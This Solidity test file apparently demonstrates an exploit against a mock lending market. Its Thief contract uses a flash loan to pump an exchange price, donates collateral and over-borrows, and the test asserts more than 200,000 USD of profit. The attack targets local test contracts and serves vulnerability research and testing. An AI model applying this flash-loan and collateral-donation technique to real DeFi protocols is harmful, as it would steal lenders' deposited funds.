// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {BoundedPrice} from "../collateral-donation/src/BoundedPrice.sol";
import {Exchange} from "../collateral-donation/src/Exchange.sol";
import {ThymeMarket} from "../collateral-donation/src/ThymeMarket.sol";
import {Token} from "../../shared/Erc20.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    CollateralDonationTest private immutable t = CollateralDonationTest(msg.sender);
    uint256 private gift;

    function run(uint256 pump, uint256 gift_) external {
        gift = gift_;
        t.flash().flashLoan(this, address(t.usd()), pump - t.usd().balanceOf(address(this)), "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (Token usd, Token thyme, ThymeMarket market) = (t.usd(), t.thyme(), t.market());
        usd.approve(address(t.exchange()), type(uint256).max);
        thyme.approve(address(t.exchange()), type(uint256).max);
        thyme.approve(address(market), type(uint256).max);
        t.exchange().trade(usd, usd.balanceOf(address(this)), 0);
        market.supply(market.CAP() - market.supplied());
        thyme.transfer(address(market), gift);
        uint256 limit = market.thymeOf(address(this)) * t.bounded().price() / 1e18 * 4_000 / 10_000;
        market.borrow(limit * 1_000 / 1_001 - 1);
        t.exchange().trade(thyme, thyme.balanceOf(address(this)), 0);
        usd.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract CollateralDonationTest {
    event log_named_int(string key, int256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant rosa = address(0x71);
    address private constant sami = address(0x72);
    address private constant tilda = address(0x73);

    Token public thyme;
    Token public usd;
    Exchange public exchange;
    BoundedPrice public bounded;
    ThymeMarket public market;
    FlashLender public flash;

    function setUp() public {
        thyme = new Token("Thyme", "THY");
        usd = new Token("Dollar", "USD");
        exchange = new Exchange(thyme, usd);
        thyme.mint(address(this), 2_000_000 ether);
        usd.mint(address(this), 2_000_000 ether);
        thyme.approve(address(exchange), type(uint256).max);
        usd.approve(address(exchange), type(uint256).max);
        exchange.endow(2_000_000 ether, 2_000_000 ether);
        bounded = new BoundedPrice(exchange, 1 ether);
        market = new ThymeMarket(thyme, usd, bounded);
        flash = new FlashLender(9);
        usd.mint(address(flash), 8_000_000 ether);
        _lend(rosa, 900_000 ether);
        _lend(sami, 700_000 ether);
        thyme.mint(tilda, 6_000 ether);
        vm.startPrank(tilda);
        thyme.approve(address(market), type(uint256).max);
        market.supply(1_500 ether);
        market.borrow(450 ether);
        vm.stopPrank();
    }

    function _lend(address who, uint256 amount) private {
        usd.mint(who, amount);
        vm.startPrank(who);
        usd.approve(address(market), type(uint256).max);
        market.lend(amount);
        vm.stopPrank();
    }

    function _profit(uint256 pump, uint256 gift) private returns (int256 profit) {
        Thief thief = new Thief();
        usd.mint(address(thief), 20_000 ether);
        thyme.mint(address(thief), 20_000 ether);
        thief.run(pump, gift);
        profit = int256(usd.balanceOf(address(thief)) + thyme.balanceOf(address(thief))) - 40_000 ether;
        emit log_named_int("profit in base units of usd", profit);
    }

    function test_attack_pays() public {
        require(_profit(2_484_576.09 ether, 516_611.43 ether) > 200_000 ether, "no profit");
    }
}
